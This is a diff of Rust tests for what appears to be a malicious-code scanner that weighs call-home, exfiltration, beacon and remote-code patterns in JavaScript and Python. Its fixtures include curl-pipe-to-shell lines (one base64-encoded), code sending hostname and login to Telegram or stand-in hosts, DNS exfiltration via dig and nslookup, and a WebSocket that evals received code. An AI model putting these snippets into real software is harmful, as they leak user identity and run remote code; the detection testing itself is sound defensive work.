@@ -544,3 +544,70 @@ fn lines_may_be_taken_out_of_a_start_file() {
     assert!(takes(" + '\\ncurl https://c.invalid/x | sh'") >= Some(Severity::High));
     assert!(takes(" + atob('Y3VybCBodHRwczovL2MuaW52YWxpZC94IHwgc2g=')") >= Some(Severity::High));
 }
+
+#[test]
+fn a_command_of_a_program_runs_when_it_is_asked_for() {
+    let when = |code: &str| {
+        let outcome = outcome(
+            Language::JavaScript,
+            &format!(
+                "const {{program}} = require('commander'); const f = () => fetch('http://203.0.113.9/x');\n{code}"
+            ),
+        );
+        outcome.events.iter().filter(|e| e.act == Act::Fetch).map(|e| e.when).max()
+    };
+    assert_eq!(when("program.command('setup').description('x').action(f)"), Some(When::Called));
+    // What the script itself has under that name, it calls.
+    assert!(when("const o = {description: 1, action(g) { g() }}; o.action(f)") >= Some(When::Load));
+    assert!(when("program.on('x', f)") >= Some(When::Load) && when("program.action(f)") >= Some(When::Load));
+}
+
+#[test]
+fn a_mailbox_of_the_user_s_own_and_names_that_others_know() {
+    use crate::model::Severity;
+    let told = |address: &str| {
+        let code = format!(
+            "import os, platform, socket, requests\nrequests.post({address}, json=[socket.gethostname(), os.getlogin()])"
+        );
+        weight(Language::Python, &code, "flow-identity-sent")
+    };
+    assert_eq!(told("os.environ['WEBHOOK']"), Some(Severity::Medium));
+    assert_eq!(told("f'https://api.telegram.org/bot{os.environ[\"T\"]}/sendMessage'"), Some(Severity::Medium));
+    assert!(told("'https://api.telegram.org/bot1:A/sendMessage'") >= Some(Severity::High));
+    assert!(told("'https://h.invalid/x'") >= Some(Severity::High));
+    let looked = |code: &str| weight(Language::Python, code, "flow-dns-exfiltration");
+    let called = "import subprocess\ndef f(t):\n    n = subprocess.check_output(['x', t], text=True)\n    subprocess.run(f'dig +short {n}.asn.invalid', shell=True)";
+    assert_eq!(looked(called), Some(Severity::Medium));
+    assert!(
+        looked("import os\nos.system('nslookup ' + os.popen('whoami').read() + '.x.invalid')") >= Some(Severity::High)
+    );
+    // The own address, as it is looked for everywhere.
+    let code = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('8.8.8.8', 80))";
+    assert_eq!(weight(Language::Python, code, "flow-beacon"), None);
+    assert!(weight(Language::Python, &code.replace("8.8.8.8", "203.0.113.9"), "flow-beacon").is_some());
+}
+
+#[test]
+fn what_a_server_does_when_it_is_asked_is_no_call_home() {
+    let homes = |code: &str| {
+        let code = format!("import {{McpServer}} from 'x'; const server = new McpServer();\n{code}");
+        rules(Language::JavaScript, &code).contains(&"flow-calls-home")
+    };
+    assert!(!homes("server.tool('weather', {}, async () => fetch('https://api.weather.invalid/x'))"));
+    assert!(!homes("server.get('/weather', async () => fetch('https://api.weather.invalid/x'))"));
+    assert!(homes("server.on('weather', async () => fetch('https://api.weather.invalid/x'))"));
+    assert!(homes("const o = {tool(n, f) { f() }}; o.tool('x', () => fetch('https://api.weather.invalid/x'))"));
+}
+
+#[test]
+fn who_is_told_by_this_machine_only() {
+    use crate::model::Severity;
+    let weighs = |address: &str| {
+        let code = format!(
+            "fetch('https://h.invalid/a'); const ws = new WebSocket({address}); ws.onmessage = e => eval(JSON.parse(e.data).code)"
+        );
+        weight(Language::JavaScript, &code, "flow-remote-code")
+    };
+    assert_eq!(weighs("'ws://localhost:12300'"), Some(Severity::Medium));
+    assert!(weighs("'wss://h.invalid/x'") >= Some(Severity::High) && weighs("process.env.X") >= Some(Severity::High));
+}
